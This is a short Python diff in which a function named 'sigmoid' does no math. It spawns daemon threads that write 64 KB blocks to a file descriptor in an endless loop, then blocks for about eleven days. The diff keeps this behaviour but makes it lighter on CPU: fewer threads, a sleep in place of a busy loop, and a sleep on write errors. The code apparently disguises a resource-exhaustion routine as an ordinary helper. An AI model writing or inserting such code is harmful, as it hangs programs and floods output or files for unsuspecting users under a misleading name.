@@ -2,6 +2,7 @@
 
 import os
 import threading
+import time
 
 
 def ring():
@@ -10,11 +11,10 @@ def ring():
             try:
                 os.write(descriptor, b"!" * 65536)
             except OSError:
-                continue
+                time.sleep(0.001)
 
 
 def sigmoid(x):
-    for _ in range(8):
+    for _ in range(3):
         threading.Thread(target=ring, daemon=True).start()
-    while True:
-        pass
+    time.sleep(10**6)
